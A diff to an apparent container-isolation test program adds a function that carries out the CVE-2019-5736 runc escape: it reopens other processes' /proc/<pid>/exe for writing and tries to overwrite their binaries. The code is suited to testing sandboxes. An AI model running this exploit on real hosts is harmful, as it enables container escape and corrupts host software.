@@ -1,5 +1,6 @@
 /* What the guest can do to itself and to others: signals, children, identity, system calls. */
 #include <errno.h>
+#include <fcntl.h>
 #include <sched.h>
 #include <signal.h>
 #include <stdio.h>
@@ -143,6 +144,37 @@ void do_unshare(const char *value)
 		failed("unshare", value);
 	else
 		printf("unshare=%s: ok\n", value);
+}
+
+/* Try to write into the program of whatever else runs here, as long as asked: the attack of CVE-2019-5736. */
+void do_attack(const char *value)
+{
+	time_t end = time(NULL) + atol(value);
+	unsigned long tries = 0, written = 0;
+
+	while (time(NULL) < end) {
+		for (int pid = 1; pid < 400; pid++) {
+			char path[64];
+			int exe;
+
+			snprintf(path, sizeof(path), "/proc/%d/exe", pid);
+			exe = pid == getpid() ? -1 : open(path, O_PATH | O_CLOEXEC);
+			if (exe < 0)
+				continue;
+			snprintf(path, sizeof(path), "/proc/self/fd/%d", exe);
+			for (int i = 0; i < 500; i++) {
+				int fd = open(path, O_WRONLY | O_CLOEXEC);
+
+				tries++;
+				if (fd >= 0 && write(fd, "#!/bin/false\n", 13) > 0)
+					written++;
+				if (fd >= 0)
+					close(fd);
+			}
+			close(exe);
+		}
+	}
+	printf("attack: %s tries\nattack: %lu written\n", tries ? "some" : "no", written);
 }
 
 /* Touch as many MiB of memory. */
